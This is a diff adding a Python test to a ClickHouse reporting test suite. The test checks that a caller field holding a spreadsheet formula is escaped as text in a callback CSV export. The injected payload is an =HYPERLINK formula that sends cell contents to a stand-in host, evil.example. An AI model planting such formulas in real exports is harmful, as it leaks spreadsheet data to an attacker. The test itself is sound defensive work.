@@ -1,5 +1,7 @@
 """Projections on both ClickHouse backends: reports with known answers, idempotency, rebuild."""
 
+import csv
+import io
 from datetime import UTC, date, datetime, timedelta
 from pathlib import Path
 from typing import Any
@@ -210,3 +212,23 @@ def test_an_open_incident_is_past_its_deadline_only_once_the_deadline_has_passed
     late = sink.run_now(lambda s: daily(s, DAY, RULES.handling_deadlines(), at(6 * 60)))
     assert early.summary["incidents_past_deadline"] == 0
     assert late.summary["incidents_past_deadline"] == 1
+
+
+def test_a_callers_formula_reaches_the_callback_csv_as_text(store: Store) -> None:
+    """A caller stored as =HYPERLINK(...) is a text cell in the callback CSV, never a formula."""
+    attack = '=HYPERLINK("http://evil.example/?"&A1,"x")'
+    sink = sink_for(store)
+    sink.write_now(messages())
+    incident = _restored_incident(sink)
+    # Written as an older worker did (no phone check at ingest then): the row itself.
+    contact = sink.run_now(
+        lambda s: s.query(
+            "SELECT call_id, occurred_at, caller, caller_hash FROM call_contacts FINAL "
+            "WHERE call_id = 'c2'"
+        )
+    )[0]
+    sink.run_now(lambda s: s.insert("call_contacts", [{**contact, "caller": attack}]))
+    report = sink.run_now(lambda s: callbacks(s, incident))
+    callers = [row[0] for row in csv.reader(io.StringIO(report.to_csv())) if row][2:]
+    assert callers == [f"'{A}", "'" + attack, f"'{C}"]
+    assert report.sections[0].rows[1]["caller"] == attack  # JSON and tables keep it as stored
